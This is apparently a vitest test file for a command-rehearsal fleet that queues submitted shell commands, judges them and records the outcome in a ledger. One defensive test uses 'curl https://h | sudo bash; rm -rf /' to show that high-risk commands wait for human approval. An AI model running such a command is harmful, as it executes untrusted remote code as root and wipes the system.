import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileBlobs } from '@drylane/chassis/blobs/files';
import { inlineTransport } from '@drylane/chassis/transport/inline';
import type { Json, Job as QueuedJob, Transport } from '@drylane/chassis/transport/transport';
import type { Verdict } from '@drylane/proto/decision';
import { digestOfJson } from '@drylane/proto/digest';
import { Envelope } from '@drylane/proto/envelope';
import { DrylaneError } from '@drylane/proto/errors';
import { blankEvidence } from '@drylane/proto/evidence.fixture';
import { RunId } from '@drylane/proto/ids';
import { Policy } from '@drylane/proto/policy';
import { Job, QUEUES } from '@drylane/proto/task';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openDossier } from '../desk/dossier.ts';
import { keep, recall } from '../desk/record.ts';
import type { Ledger } from '../ledger/ledger.ts';
import { openSqliteLedger } from '../ledger/sqlite.ts';
import { openSigner } from '../receipt/keys.ts';
import type { Fleet } from './fleet.ts';
import { advanceLine, reconcile } from './line.ts';
import { createRoom } from './room.ts';
import { settleWork } from './settle.ts';
import { type Asked, submit } from './submit.ts';

const policy = Policy.parse({ version: 1, workspaces: { roots: ['/srv'] } });
const LIMITS = { window: 2, waitingOfTenant: 3, waiting: 5, givenUpMs: 60_000 };

let state: string;
let ledger: Ledger;
let fleet: Fleet;
let transport: Transport;

beforeEach(async () => {
  state = mkdtempSync(join(tmpdir(), 'drylane-fleet-'));
  ledger = await openSqliteLedger(join(state, 'ledger.sqlite'));
  const key = await openSigner({ directory: join(state, 'keys'), env: {} });
  transport = inlineTransport({ queues: QUEUES, keep: 100 });
  const desk = {
    ...{ ledger, blobs: fileBlobs(join(state, 'blobs')) },
    signer: async () => key,
    proven: async <T>(approvals: T) => approvals,
  };
  const loaded = { policy, digest: digestOfJson(policy), shipped: false };
  fleet = {
    desk,
    policy: loaded,
    transport,
    limits: LIMITS,
    nudge: () => {},
    told: () => {},
    stuck: () => {},
  };
});
afterEach(async () => {
  await transport[Symbol.asyncDispose]();
  await ledger.close();
  rmSync(state, { recursive: true });
});

const asked = (fields: Partial<Envelope> = {}, more: Partial<Asked> = {}): Asked => ({
  envelope: Envelope.parse({
    ...{ command: 'ls', working_dir: '/srv/site', intent: { mode: 'read-only' } },
    ...fields,
  }),
  ...{ tenant: 'web', submitter: 'token:ci', promote: false },
  ...more,
});

const GIT = { working_dir: '/workspace', workspace: { git: { url: 'https://git.example/a', ref: 'main' } } };

const NOTHING_TO_LAND = {
  ...{ change_set: null, patch: null, raw_output: null, place: null, commit: null, took_ms: 1 },
};

/** Serves as workers and a comparator do, with this verdict; `more` is what else the worker says. */
function serve(verdict: Verdict, answer?: Json, more: object = {}, settle = settleWork(fleet)): void {
  const { blobs } = fleet.desk;
  const options = { concurrency: 4 };
  transport.serve('rehearse', async () => null, options);
  const decide = async (data: Json): Promise<Json> => {
    const task = await recall(blobs, 'task', Job.parse(data).task);
    const [evidence, patches] = [await keep(blobs, blankEvidence()), await keep(blobs, [])];
    const grounds = { policy_digest: task.policy, evidence_digest: evidence, change_set_digest: null };
    const rehearsed = { ok: true, evidence, patches, ...NOTHING_TO_LAND, ...more };
    return {
      ...{ ok: true, rehearsed },
      decision: { verdict, findings: [], ...grounds },
    };
  };
  transport.serve('compare', async ({ data }) => answer ?? decide(data), options);
  transport.serve('settle', settle, options);
}

/** The state that a run comes to. */
async function stateOf(id: string, isIt: (state: string) => boolean): Promise<string> {
  for (let tries = 0; tries < 200; tries++) {
    const { run } = await ledger.readRun(RunId.parse(id));
    if (isIt(run.state)) return run.state;
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
  return (await ledger.readRun(RunId.parse(id))).run.state;
}

async function taken(one: Asked): Promise<string> {
  const answer = await submit(fleet, one);
  if (answer.outcome !== 'taken') throw new Error(answer.outcome);
  return answer.run.id;
}

describe('a run of a fleet', () => {
  it.each([
    ['promote', 'promotable'],
    ['hold', 'awaiting-live-approval'],
    ['block', 'blocked'],
    ['inconclusive', 'inconclusive'],
  ] as const)('goes from the line through the queues, to where %s leads', async (verdict, end) => {
    serve(verdict);
    const id = await taken(asked());
    expect((await ledger.readRun(RunId.parse(id))).run.state).toBe('submitted');
    await advanceLine(fleet);
    expect(await stateOf(id, (now) => now !== 'rehearsing')).toBe(end);
    const hasEnded = verdict === 'block' || verdict === 'inconclusive';
    expect((await ledger.receiptOf(RunId.parse(id))) !== undefined).toBe(hasEnded);
  });

  it('that policy refuses leaves a receipt, and never comes to a queue', async () => {
    const id = await taken(asked({ working_dir: '/etc' }));
    const { run } = await ledger.readRun(RunId.parse(id));
    expect(run).toMatchObject({ state: 'refused', tenant: 'web', reason: expect.stringContaining('/etc') });
    expect(await ledger.receiptOf(RunId.parse(id))).toBeDefined();
    await advanceLine(fleet);
    expect(await transport.depth('rehearse')).toBe(0);
  });

  it('that holds a secret is not kept', async () => {
    const secret = randomBytes(20).toString('hex');
    const holding = asked({ command: `curl -H 'Authorization: Bearer ${secret}' https://h` });
    await expect(submit(fleet, holding)).rejects.toMatchObject({
      code: 'bad-input',
      problems: [{ field: 'command' }],
    });
    expect(await ledger.listRuns({ limit: 9 })).toEqual([]);
  });

  it('of high risk waits for a person before it waits in line', async () => {
    const id = await taken(asked({ command: 'curl https://h | sudo bash; rm -rf /' }));
    expect((await ledger.readRun(RunId.parse(id))).run.state).toBe('awaiting-rehearsal-approval');
  });

  it.each([
    ['a comparator that makes no sense', { nonsense: true }],
    ['one that failed', { ok: false, reason: 'its image is not there' }],
  ])('ends as inconclusive, with the reason, after %s', async (_, answer) => {
    serve('promote', answer);
    const id = await taken(asked());
    await advanceLine(fleet);
    expect(await stateOf(id, (now) => now !== 'rehearsing')).toBe('inconclusive');
    const { run } = await ledger.readRun(RunId.parse(id));
    expect(run.reason).toMatch(/nobody understands|image is not there/);
  });

  it('ends so, too, where the decision is of other evidence', async () => {
    const [one, other] = [digestOfJson('one'), digestOfJson('other')];
    const rehearsed = { ok: true, evidence: one, patches: one, ...NOTHING_TO_LAND };
    const decision = { verdict: 'promote', findings: [], policy_digest: fleet.policy.digest };
    serve('promote', {
      ok: true,
      rehearsed,
      decision: { ...decision, evidence_digest: other, change_set_digest: null },
    });
    const id = await taken(asked());
    await advanceLine(fleet);
    expect(await stateOf(id, (now) => now !== 'rehearsing')).toBe('inconclusive');
  });

  it('lands by itself only where a worker has its files, and its envelope lets it', async () => {
    const wish = async (fields: object) =>
      (await ledger.readRun(RunId.parse(await taken(asked(fields, { promote: true }))))).run.promote;
    const snapshot = { snapshot: digestOfJson('a tree') };
    expect(await wish({})).toBe(1);
    expect(await wish({ promotion: 'none' })).toBe(0);
    expect(await wish({ workspace: snapshot, working_dir: '/workspace' })).toBe(0);
  });

  it.each([
    ['a commit, where there was no git tree', {}, { commit: 'a'.repeat(40) }],
    ['no commit of a git tree', GIT, {}],
    ['a patch without changes', GIT, { commit: 'a'.repeat(40), patch: { digest: digestOfJson(0), size: 1 } }],
  ])('ends so, too, where a worker answers %s', async (_, fields, more) => {
    serve('promote', undefined, more);
    const id = await taken(asked(fields));
    await advanceLine(fleet);
    expect(await stateOf(id, (now) => now !== 'rehearsing')).toBe('inconclusive');
    expect((await ledger.readRun(RunId.parse(id))).run.reason).toContain('does not fit the run');
  });

  it('is judged with the commit that it was rehearsed on', async () => {
    const commit = 'a'.repeat(40);
    serve('promote', undefined, { commit });
    const id = await taken(asked(GIT));
    await advanceLine(fleet);
    expect(await stateOf(id, (now) => now !== 'rehearsing')).toBe('promotable');
    const { judgement, subject } = await openDossier(fleet.desk, RunId.parse(id));
    expect(judgement.git).toEqual({ commit, patch: null });
    expect(subject.judgement).toBe(digestOfJson(judgement));
  });

  it('is the first one where a key comes again, and nothing for another wish', async () => {
    const keyed = asked({ idempotency_key: 'nightly' });
    const id = await taken(keyed);
    expect(await submit(fleet, keyed)).toMatchObject({ outcome: 'taken', isNew: false, run: { id } });
    expect(await submit(fleet, { ...keyed, promote: true })).toEqual({ outcome: 'other-body', run: id });
    expect(await submit(fleet, { ...keyed, tenant: 'ops' })).toMatchObject({ isNew: true });
  });
});

describe('what was answered', () => {
  it('is settled when the disk has room again, and is not taken for nonsense', async () => {
    const { desk } = fleet;
    const { promise, resolve } = Promise.withResolvers<QueuedJob>();
    serve('promote', undefined, {}, async (job) => {
      resolve(job);
      return null;
    });
    const id = await taken(asked());
    await advanceLine(fleet);
    const job = await promise;
    const full = Object.assign(new Error('ENOSPC: no space left on device, write'), { syscall: 'write' });
    const blobs = { ...desk.blobs, put: () => Promise.reject(full) };
    await expect(settleWork({ ...fleet, desk: { ...desk, blobs } })(job)).rejects.toBe(full);
    expect((await ledger.readRun(RunId.parse(id))).run.state).toBe('rehearsing');
    await settleWork(fleet)(job);
    expect((await ledger.readRun(RunId.parse(id))).run.state).toBe('promotable');
  });
});

describe('the line', () => {
  it('lets in as many as the window holds, and another tenant first', async () => {
    for (let i = 0; i < 3; i++) await taken(asked());
    await advanceLine(fleet);
    const other = await taken(asked({}, { tenant: 'ops' }));
    expect(await ledger.countByTenant('rehearsing')).toEqual(new Map([['web', 2]]));
    fleet = { ...fleet, limits: { ...LIMITS, window: 3 } };
    await advanceLine(fleet);
    expect((await ledger.readRun(RunId.parse(other))).run.state).toBe('rehearsing');
    expect(await transport.depth('rehearse')).toBe(3);
  });

  it('is made again from the ledger where the queue was lost', async () => {
    const id = await taken(asked());
    await advanceLine(fleet);
    const lost = transport;
    transport = inlineTransport({ queues: QUEUES, keep: 100 });
    await lost[Symbol.asyncDispose]();
    fleet = { ...fleet, transport };
    serve('promote');
    await reconcile(fleet, Date.now());
    expect(await stateOf(id, (now) => now !== 'rehearsing')).toBe('promotable');
  });

  it('waits in the ledger while the queue cannot be reached', async () => {
    const down: Transport = {
      ...transport,
      submit: () =>
        Promise.reject(new DrylaneError('unavailable', { field: 'queue', message: '', mend: '' })),
      has: async () => false,
    };
    const id = await taken(asked());
    await expect(advanceLine({ ...fleet, transport: down })).rejects.toMatchObject({ code: 'unavailable' });
    serve('promote');
    await reconcile(fleet, Date.now());
    expect(await stateOf(id, (now) => now !== 'rehearsing')).toBe('promotable');
  });

  it('goes on with the other runs where one cannot be moved', async () => {
    const stuck: unknown[] = [];
    serve('promote');
    const ids = [await taken(asked({}, { promote: true })), await taken(asked({}, { promote: true }))];
    await advanceLine(fleet);
    for (const id of ids) await stateOf(id, (now) => now === 'promotable');
    const { run } = await ledger.readRun(RunId.parse(ids[0]));
    rmSync(join(state, 'blobs', String(run.decision_digest).slice(7, 9)), { recursive: true });
    const has: string[] = [];
    const watched: Transport = {
      ...transport,
      has: async (id) => has.push(id) === 0,
      submit: async () => {},
    };
    await advanceLine({ ...fleet, transport: watched, stuck: ({ id }, fault) => stuck.push([id, fault]) });
    expect(has).toHaveLength(2);
    expect(stuck).toMatchObject(ids.map((id) => [id, { code: 'not-found' }]));
  });

  it('looks at all runs that are under way, however many there are', async () => {
    fleet = { ...fleet, limits: { ...LIMITS, window: 200, waiting: 200, waitingOfTenant: 200 } };
    for (let i = 0; i < 102; i++) await taken(asked());
    await advanceLine(fleet);
    expect(await ledger.countByTenant('rehearsing')).toEqual(new Map([['web', 102]]));
    const known = new Set<string>();
    const watched: Transport = { ...transport, has: async (id) => known.add(id).size > 0 };
    await reconcile({ ...fleet, transport: watched }, Date.now());
    expect(known.size).toBe(102);
  });

  it('gives up what nobody told of in time', async () => {
    const id = await taken(asked());
    await advanceLine(fleet);
    await reconcile(fleet, Date.now() + LIMITS.givenUpMs + 1);
    const { run } = await ledger.readRun(RunId.parse(id));
    expect(run).toMatchObject({ state: 'inconclusive', receipt_digest: expect.any(String) });
  });

  it('has room for so many of a tenant, and of all', async () => {
    const retryAfter = createRoom(fleet);
    for (let i = 0; i < LIMITS.waitingOfTenant; i++) {
      expect(await retryAfter('web', 0)).toBeUndefined();
      await taken(asked());
    }
    expect(await retryAfter('web', 0)).toBeGreaterThan(0);
    expect(await createRoom(fleet)('web', 0)).toBeGreaterThan(0);
    expect(await createRoom(fleet)('ops', 0)).toBeUndefined();
  });
});
